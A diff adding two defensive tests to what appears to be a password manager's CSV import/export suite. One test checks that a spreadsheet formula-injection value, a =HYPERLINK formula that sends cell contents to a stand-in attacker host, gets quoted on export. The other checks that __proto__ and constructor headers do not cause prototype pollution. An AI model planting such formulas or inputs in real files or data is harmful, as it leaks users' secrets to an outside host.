@@ -174,6 +174,37 @@ test("the encrypted export reads back as it was; a wrong passphrase, a changed b
   await expect(readImport(bytes(file))).rejects.toThrow("give its passphrase");
 });
 
+test("a CSV export quotes what a spreadsheet would run as a formula, and reads back as it was; a multi-line field stays whole", async () => {
+  const tricky: ExportedVault[] = [
+    {
+      name: "Team",
+      items: [
+        {
+          name: '=HYPERLINK("https://evil.example/?"&E2,"Click")',
+          type: "login",
+          fields: { username: "@ada", password: "-starts-with-minus" },
+        },
+        { name: "deploy", type: "ssh", fields: { privateKey: "-----BEGIN KEY-----\nAAAA\nBBBB\n-----END KEY-----" } },
+      ],
+    },
+  ];
+  const csv = exportCsv(tricky);
+  expect(csv).toContain(`"'=HYPERLINK(`);
+  expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
+  const back = await readImport(bytes(csv));
+  expect(back.items[0]).toMatchObject({ name: tricky[0]!.items[0]!.name, fields: { username: "@ada", password: "-starts-with-minus" } });
+  expect(back.items[1]!.custom).toEqual([
+    { name: "privateKey", value: "-----BEGIN KEY-----\nAAAA\nBBBB\n-----END KEY-----", hidden: false },
+  ]);
+});
+
+test("a CSV header named like an object's own properties (__proto__, constructor) does not break the import", async () => {
+  const parsed = await readImport(bytes("name,__proto__,constructor\nBank,x,y\n"));
+  expect(parsed.items.map((i) => i.name)).toEqual(["Bank"]);
+  expect(Object.getPrototypeOf(parsed.items[0]!.fields)).toBe(Object.prototype);
+  expect(({} as Record<string, unknown>).x).toBeUndefined();
+});
+
 test("the plaintext exports read back: JSON exactly, CSV as a CSV", async () => {
   expect((await readImport(bytes(exportJson(vaults)))).items).toEqual(vaults[0]!.items);
   const csv = exportCsv(vaults);
